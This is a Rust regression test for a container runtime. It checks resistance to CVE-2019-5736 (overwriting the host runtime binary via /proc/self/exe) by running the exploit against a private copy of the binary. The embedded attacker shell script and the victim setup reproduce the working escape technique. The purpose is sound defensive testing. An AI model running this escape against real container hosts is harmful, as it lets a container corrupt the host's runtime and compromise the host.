//! CVE-2019-5736: a process inside a container must not be able to overwrite the host's
//! runtime binary through `/proc/<pid>/exe` of a runtime process.
//!
//! The attack, as in the original exploit (there through `runc exec`, here through `start`):
//!
//! ```text
//!   attacker B: pid 1 of a new pid namespace; spins over /proc/N, opening /proc/N/exe of any
//!               process that is not busybox (keeps it as fd 4)
//!   victim A:   joins B's pid namespace; args[0] is a script `#!/proc/self/exe`, so when the
//!               runtime execs it, the kernel runs the runtime's own /proc/self/exe again as
//!               the container process (A's init before exec is also fair game)
//!   test:       A has a terminal; the test sends XOFF (^S) on it before `start`, so the
//!               re-executed runtime blocks on its first write to stderr: B has all the time
//!               it needs. Once B opened something (or after 3 s), XON (^Q), wait until A
//!               stopped (the binary is no longer busy)
//!   attacker B: `echo PWNED >> /proc/self/fd/4` (reopens the binary for writing)
//!   test:       the runtime binary must be byte-for-byte unchanged
//! ```
//!
//! runc 1.1 defends by running its init from a read-only bind mount (or sealed memfd) copy
//! of itself: the attacker opens that copy and the write fails with EROFS.
//! The runtime under test is a private copy, so even a vulnerable runtime damages nothing.

use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

use hako_test_support::{ConsoleSocket, pty_roundtrip};

use crate::common::*;

scenario!(proc_self_exe_is_not_writable);

const ATTACKER: &str = r#"
echo ready > /m/b
while [ ! -e /m/stop ]; do
  for p in /proc/[0-9]*; do
    case "$p" in /proc/1|/proc/self|/proc/thread-self) continue;; esac
    # A failed redirection on a { } group is not fatal (unlike on `exec` itself).
    if { exec 4<&3; } 2>/dev/null 3< "$p/exe"; then
      e=$(readlink /proc/self/fd/4)
      case "$e" in
        */busybox) exec 4<&-;;
        *) echo "opened $p/exe -> $e" >> /m/log; echo > /m/opened; break 2;;
      esac
    fi
  done
done
while [ ! -e /m/go ]; do sleep 0.05; done
if [ -e /proc/self/fd/4 ]; then
  for i in $(seq 1 20); do
    if (echo PWNED >> /proc/self/fd/4) 2>>/m/log; then echo WROTE >> /m/log; break; fi
    sleep 0.05
  done
else
  echo "never opened a runtime exe" >> /m/log
fi
echo finished > /m/done
sleep 30
"#;

fn wait_file(path: &Path, timeout: Duration) -> bool {
    let deadline = Instant::now() + timeout;
    while Instant::now() < deadline {
        if path.exists() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

fn proc_self_exe_is_not_writable(rt: &Runtime) {
    // A private copy of the runtime binary, driven like the original.
    let copy_dir = rt.work_dir().join("bin");
    fs::create_dir(&copy_dir).unwrap();
    let copy = copy_dir.join(rt.binary().file_name().unwrap());
    fs::copy(rt.binary(), &copy).unwrap();
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).unwrap();
    let before = fs::read(&copy).unwrap();
    let rt = Runtime::with_binary(rt.kind(), copy.clone()).unwrap();

    let marks = rt.work_dir().join("m");
    fs::create_dir(&marks).unwrap();
    fs::set_permissions(&marks, fs::Permissions::from_mode(0o777)).unwrap();
    let m = marks.display().to_string();

    let a_id = unique_id("cvea");
    let b_id = unique_id("cveb");
    let _gb = ContainerGuard::new(&rt, &b_id);
    let _ga = ContainerGuard::new(&rt, &a_id);

    let b = bundle(&Config::new().bind(&m, "/m", false).sh(ATTACKER));
    rt.create(&b_id, b.path()).expect_ok("create attacker");
    let b_pid = rt.state(&b_id).unwrap()["pid"]
        .as_i64()
        .expect("attacker pid");
    rt.start(&b_id).expect_ok("start attacker");
    assert!(
        wait_file(&marks.join("b"), Duration::from_secs(10)),
        "attacker never got ready"
    );

    let a = bundle(
        &Config::new()
            .bind(&m, "/m", false)
            .namespace("pid", Some(&format!("/proc/{b_pid}/ns/pid")))
            .terminal(true)
            .args(&["/evil"]),
    );
    a.write_executable("evil", "#!/proc/self/exe\n").unwrap();
    let sock = ConsoleSocket::bind(&rt.work_dir().join("console.sock")).unwrap();
    let sock_path = sock.path().display().to_string();
    let created = rt.create_with(&a_id, a.path(), &["--console-socket", &sock_path]);
    eprintln!("{} create victim:\n{created}", rt.kind());
    if created.success() {
        let mut master = sock.receive(Duration::from_secs(5)).expect("pty master");
        master.write_all(b"\x13").unwrap(); // XOFF: the victim's writes to its tty block
        // `start` runs in a thread: a runtime may wait for the exec outcome, which the
        // victim reports on its (stopped) tty. runc returns at once, hako-runtime waits.
        let (started, opened, seen) = std::thread::scope(|s| {
            let start = s.spawn(|| rt.start(&a_id));
            let opened = wait_file(&marks.join("opened"), Duration::from_secs(3));
            master.write_all(b"\x11").unwrap(); // XON
            let seen = pty_roundtrip(&mut master, "", "\u{0}", Duration::from_millis(500));
            (start.join().expect("start thread"), opened, seen)
        });
        eprintln!("{} start victim:\n{started}", rt.kind());
        eprintln!("attacker opened something: {opened}; victim tty: {seen:?}");
        let stopped = rt.wait_status(&a_id, "stopped", Duration::from_secs(10));
        eprintln!("victim stopped: {stopped}");
    }
    fs::write(marks.join("stop"), "").unwrap();
    fs::write(marks.join("go"), "").unwrap();
    let finished = wait_file(&marks.join("done"), Duration::from_secs(10));
    let log = fs::read_to_string(marks.join("log")).unwrap_or_default();
    eprintln!("{} attacker log:\n{log}", rt.kind());
    assert!(finished, "attacker did not finish:\n{log}");

    rt.delete_force(&a_id).expect_ok("delete victim");
    rt.delete_force(&b_id).expect_ok("delete attacker");
    let after = fs::read(&copy).unwrap();
    assert!(
        before == after,
        "the runtime binary was modified from inside a container:\n{log}"
    );
    assert!(
        !log.contains("WROTE"),
        "a write to the runtime binary succeeded:\n{log}"
    );
    rt.assert_no_leaks(&[&a_id, &b_id], &[a.path(), b.path()]);
}
